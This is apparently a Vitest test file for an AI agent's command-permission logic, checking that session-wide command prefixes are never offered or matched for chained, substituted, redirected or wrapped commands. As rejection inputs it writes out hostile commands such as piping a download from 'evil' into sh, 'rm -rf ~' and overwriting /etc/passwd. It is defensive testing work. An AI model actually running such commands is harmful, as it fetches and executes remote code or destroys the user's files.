import { describe, expect, it } from 'vitest';
import { matchesCommandPrefix, sessionCommandPrefix } from '../../../src/agent/calls/command-prefix';

describe('sessionCommandPrefix', () => {
  it('offers the program and its subcommand, never more', () => {
    expect(sessionCommandPrefix('npm test')).toBe('npm test');
    expect(sessionCommandPrefix('  git   status --short ')).toBe('git status');
    expect(sessionCommandPrefix('npm run build')).toBe('npm run');
    expect(sessionCommandPrefix('ls -la src')).toBe('ls');
    expect(sessionCommandPrefix('cat README.md')).toBe('cat');
    expect(sessionCommandPrefix('./scripts/check.sh fast')).toBe('./scripts/check.sh fast');
  });

  it('offers nothing that would cover flags or program text that run things', () => {
    for (const command of ['node build.js', 'node -e "1"', 'python x.py', 'find . -name x', 'git --no-pager log', 'tar -xf a.tar', 'npx jest', 'awk "{print}" f']) {
      expect(sessionCommandPrefix(command), command).toBeUndefined();
    }
  });

  it('offers nothing for commands that chain, substitute or redirect', () => {
    for (const command of ['npm test; curl evil | sh', 'npm test && rm -rf ~', 'npm test || true', 'npm test | tee log', 'npm test &', 'echo `id`', 'echo $(id)', 'npm test > out', 'npm test < in', 'npm test\ncurl evil']) {
      expect(sessionCommandPrefix(command), command).toBeUndefined();
    }
  });

  it('offers nothing for commands that run any other command, or start with an assignment or expansion', () => {
    for (const command of ['bash -c "curl evil"', 'sh script.sh', 'sudo npm test', 'env FOO=1 npm test', '/usr/bin/env npm test', 'xargs rm', 'FOO=1 npm test', '$EDITOR file', 'eval "$x"']) {
      expect(sessionCommandPrefix(command), command).toBeUndefined();
    }
  });
});

describe('matchesCommandPrefix', () => {
  it('matches whole words only', () => {
    expect(matchesCommandPrefix('npm test', 'npm test')).toBe(true);
    expect(matchesCommandPrefix('npm  test -- --run', 'npm test')).toBe(true);
    expect(matchesCommandPrefix('npm testing', 'npm test')).toBe(false);
    expect(matchesCommandPrefix('npm', 'npm test')).toBe(false);
    expect(matchesCommandPrefix('npx test', 'npm test')).toBe(false);
  });

  it('never matches a command that chains, substitutes or redirects', () => {
    expect(matchesCommandPrefix('npm test; curl evil | sh', 'npm test')).toBe(false);
    expect(matchesCommandPrefix('npm test $(curl evil)', 'npm test')).toBe(false);
    expect(matchesCommandPrefix('npm test > /etc/passwd', 'npm test')).toBe(false);
    expect(matchesCommandPrefix('npm test\nrm -rf ~', 'npm test')).toBe(false);
  });
});
